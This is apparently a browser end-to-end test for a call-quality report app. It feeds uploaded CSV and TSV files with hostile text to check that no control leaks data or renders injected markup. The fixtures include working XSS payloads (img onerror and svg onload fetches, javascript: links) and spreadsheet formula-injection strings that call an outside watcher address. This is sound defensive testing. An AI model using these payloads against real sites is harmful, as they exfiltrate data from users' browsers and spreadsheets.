// Every control of every view is used while each text of the files tries to be markup, a script, a link or
// a formula that tells a server outside. Nobody hears of anything, and nothing is left in the browser.

import { readFileSync } from "node:fs";

import { readCsv } from "./csv.mjs";
import { buildingFile, exportFile } from "./tenant.mjs";
import { expect, test } from "./test.mjs";
import { startWatcher } from "./watcher.mjs";

const TEXT_FIELDS = readFileSync(new URL("../../src/engine/fields/cqd.tsv", import.meta.url), "utf8")
  .split("\n")
  .slice(1)
  .map((line) => line.split("\t"))
  .filter(([name, , shape]) => name && shape === "text")
  .map(([name]) => name);

const NEEDED = ["Media Type", "Is Server Pair", "End Time", "Avg Jitter", "Second UPN", "Second IP Address"];

/** Texts that would tell `address` something, each in its own way. */
const hostile = (address) => [
  `<img src="${address}leak/img" onerror="fetch('${address}leak/onerror')">`,
  `"><svg onload="fetch('${address}leak/svg')"><image href="${address}leak/svg-image"/></svg>`,
  `<a href="javascript:fetch('${address}leak/link')" ping="${address}leak/ping">x</a>`,
  `javascript:fetch('${address}leak/scheme')`,
  `<link rel=prefetch href="${address}leak/prefetch"><style>@import "${address}leak/style";</style>`,
  `\u202E${address}leak/bidi\u2066`,
  `=WEBSERVICE("${address}leak/formula")`,
  `+HYPERLINK("${address}leak/plus","x")`,
  `${address}leak/plain`,
];

/** Elements that only a text that was taken for markup could have made. */
const FOREIGN = "img, iframe, object, embed, base, style, [onerror], [onload], a[href^='javascript:'], a[ping], body script, image";

/** Ends what the test needs; used last. */
const LAST = /^(Remove|Forget everything|Yes, forget|Do not use)/;

/** A control, by how it is used. */
const USES = {
  SELECT: async (control) => {
    const values = await control.evaluate((select) =>
      [...select.options].filter((option) => !option.disabled).map((option) => option.value),
    );
    // One that is chosen may lead to other options, or to none.
    for (const value of [...values.slice(1, 4), values[0]]) {
      await control.selectOption(value, { timeout: 2_000 }).catch(() => {});
    }
  },
  INPUT: async (control) => {
    const type = await control.getAttribute("type");
    if (type === "checkbox") {
      await control.click();
      await control.click();
    } else if (type === "search" || type === "text") {
      await control.fill("<b>x</b>");
      await control.fill("");
    }
  },
};

test("no control leads outside, whatever the files say", async ({ app, context, page, write }) => {
  test.setTimeout(300_000);
  const outside = await startWatcher();
  const texts = hostile(outside.address);
  const text = (idx) => texts[idx % texts.length];
  const fields = [...NEEDED, ...TEXT_FIELDS.filter((name) => !NEEDED.includes(name))];
  const rows = Array.from({ length: 90 }, (_, row) => ({
    ...Object.fromEntries(fields.map((field, idx) => [field, text(row + idx)])),
    "Media Type": "Audio",
    "Is Server Pair": "Client : Server",
    "End Time": `2026-03-0${1 + (row % 9)}T10:00:00`,
    "Avg Jitter": row % 3 === 0 ? 80 : 3,
    "Second UPN": `${text(row)}@contoso.com`,
    "Second IP Address": `10.50.${row % texts.length}.${2 + row}`,
    "Second Subnet": "",
  }));
  const networks = texts.map((name, idx) => [`10.50.${idx}.0`, 24, name, name, name, name, name]);
  const files = [
    { name: `${text(0).replaceAll("/", "⁄")}.csv`, mimeType: "text/csv", buffer: Buffer.from(exportFile(rows, { fields })) },
    { name: `${text(3).replaceAll("/", "⁄")}.tsv`, mimeType: "text/tab-separated-values", buffer: Buffer.from(buildingFile(networks)) },
  ];

  const asked = [];
  const windows = [];
  const downloads = [];
  const dialogs = [];
  page.on("request", (request) => asked.push(request.url()));
  context.on("page", (opened) => windows.push(opened.url()));
  page.on("download", (download) => downloads.push(download));
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss();
  });
  await app.open();
  const address = page.url();
  await app.addAndRead(...files);
  asked.length = 0;

  const used = new Set();
  for (const role of ["Administrator", "Engineer", "Specialist"]) {
    await app.select("Role").selectOption({ label: role });
    await app.isIn("ready");
    for (const view of ["Overview", "Buildings", "People", "Streams", "Files", "Help"]) {
      await app.show(view);
      await expect(page.locator("[aria-busy]")).toHaveCount(0);
      await useAll(view);
      expect(new URL(page.url()).origin, view).toBe(new URL(address).origin);
      expect(page.url(), view).toMatch(/\/(#[a-z]+)?$/);
    }
  }
  expect(used.size, "controls were found").toBeGreaterThan(40);

  await fetch(`${outside.address}control`);
  await expect.poll(() => outside.requests).toContain("GET /control");
  expect(outside.requests.filter((line) => line.includes("/leak/"))).toEqual([]);
  expect(asked.filter((url) => !url.startsWith("blob:"))).toEqual([]);
  expect(windows).toEqual([]);
  expect(dialogs).toEqual([]);
  for (const download of downloads) {
    const cells = readCsv(readFileSync(await download.path(), "utf8")).flat();
    expect(cells.filter((cell) => /^\s*[=+@]/.test(cell)), download.suggestedFilename()).toEqual([]);
  }
  const asking = [...used].filter((key) => key.includes(" BUTTON Download"));
  expect(downloads.length, "each download that was asked for came").toBe(asking.length);
  for (const view of ["Buildings", "People", "Streams"]) {
    expect(asking).toContain(`${view} BUTTON Download CSV`);
  }
  const left = await page.evaluate(async () => [
    { ...localStorage },
    { ...sessionStorage },
    document.cookie,
    (await indexedDB.databases()).length,
  ]);
  expect(left).toEqual([{}, {}, "", 0]);
  await outside.stop();

  async function useAll(view) {
    const controls = page.locator("main, header").locator("button, summary, select, input, a");
    const n_controls = await controls.count();
    for (let idx = 0; idx < Math.min(n_controls, 60); idx += 1) {
      // While a file is read anew, its controls are others.
      await app.isIn("ready");
      await expect(page.locator("[aria-busy]")).toHaveCount(0);
      const control = controls.nth(idx);
      if (!(await control.count()) || !(await control.isVisible()) || !(await control.isEnabled())) {
        continue;
      }
      const [kind, name] = await control.evaluate((element) => [
        element.tagName,
        element.getAttribute("aria-label") ?? element.textContent.trim() ?? element.id,
      ]);
      const id = await control.getAttribute("id");
      if (LAST.test(name) || id === "role" || id === "add-files" || /^(Choose files|Add files)/.test(name)) {
        continue;
      }
      const key = `${view} ${kind} ${name.slice(0, 40)}`;
      if (used.has(key)) {
        continue;
      }
      used.add(key);
      // What is asked for must be there before something else is chosen.
      const isDownload = kind === "BUTTON" && name.startsWith("Download");
      const download = isDownload ? page.waitForEvent("download") : undefined;
      const use = USES[kind] ?? ((found) => found.click());
      await use(control);
      await download;
      await expect(page.locator(FOREIGN), `${view}: ${name}`).toHaveCount(0);
      if (await page.getByRole("dialog").count()) {
        for (const inner of await page.getByRole("dialog").locator("summary, select").all()) {
          await (USES[await inner.evaluate((element) => element.tagName)] ?? ((found) => found.click()))(inner);
        }
        await expect(page.locator(FOREIGN), `${view}: dialog of ${name}`).toHaveCount(0);
        await page.keyboard.press("Escape");
        await expect(page.getByRole("dialog")).toHaveCount(0);
      }
      if (!new RegExp(`#${view.toLowerCase()}$`).test(page.url())) {
        await app.show(view);
      }
    }
  }
});
